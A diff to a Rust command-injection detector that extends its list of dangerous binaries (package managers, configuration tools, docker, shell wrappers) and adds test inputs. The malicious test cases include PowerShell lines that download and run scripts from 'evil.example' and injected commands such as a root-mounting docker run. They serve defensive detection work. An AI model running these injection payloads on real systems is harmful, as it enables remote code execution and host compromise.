@@ -1065,7 +1065,22 @@ fn class_of(name: &[u8]) -> Option<u16> {
         | b"systemctl" | b"service" | b"shutdown" | b"reboot" | b"iptables" | b"eval" | b"exec"
         | b"nohup" | b"xargs" | b"export" | b"history" | b"chattr" | b"mkfifo" | b"mknod"
         | b"nice" | b"command" | b"builtin" | b"start" | b"set" | b"mount" | b"df" | b"free"
-        | b"runas" | b"diskpart" | b"fsutil" | b"forfiles" | b"makecab" => 0,
+        | b"runas" | b"diskpart" | b"fsutil" | b"forfiles" | b"makecab"
+        // Binaries that run other programs or fetch and install code
+        // (configuration management, package managers, wrappers that
+        // spawn a command, tools with a shell escape); English-looking
+        // ones (`time`, `watch`, `make`) still need an option or path.
+        | b"ansible" | b"ansible-playbook" | b"ansible-galaxy" | b"ansible-console"
+        | b"ansible-doc" | b"ansible-inventory" | b"ansible-pull" | b"ansible-vault"
+        | b"ansible-config" | b"chef" | b"chef-client" | b"chef-shell" | b"chef-run"
+        | b"chef-vault" | b"knife" | b"salt" | b"salt-call" | b"puppet" | b"cscli" | b"pip"
+        | b"pip3" | b"pipx" | b"npm" | b"npx" | b"gem" | b"apt" | b"apt-get" | b"yum"
+        | b"dnf" | b"rpm" | b"dpkg" | b"flock" | b"cpulimit" | b"perf" | b"rmt" | b"trap"
+        | b"docker" | b"kubectl" | b"tcpdump" | b"screen" | b"tmux" | b"expect"
+        | b"systemd-run" | b"unshare" | b"chroot" | b"setarch" | b"taskset" | b"ionice"
+        | b"stdbuf" | b"watch" | b"rlwrap" | b"sftp" | b"smbclient" | b"mysql" | b"psql"
+        | b"sqlite3" | b"git" | b"make" | b"aria2c" | b"tclsh" | b"jjs" | b"capsh"
+        | b"nmcli" | b"time" | b"timedatectl" | b"run-parts" | b"logsave" => 0,
         _ => return None,
     })
 }
@@ -1847,7 +1862,12 @@ mod tests {
         ";iex (iwr http://evil.example/x.ps1)",
         "; IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
         "whoami|sh",
-    ];
+        "x; ansible localhost -m shell -a id",
+    "q|pip3 install --user evil",
+    ";flock -u / sh",
+    "1 && docker run -v /:/mnt alpine",
+    "a; perf --version",
+];
 
     /// Benign inputs: none may be flagged.
     const BENIGN: &[&str] = &[
@@ -1921,6 +1941,10 @@ mod tests {
         "Returns the [`Id`] of the task",
         "```sh\ncargo build\n```",
         "\"queue is full; head = {head}\"",
+        "time; watch the clock",
+        "git & github",
+        "make; do",
+        "pip & pop",
     ];
 
     #[test]
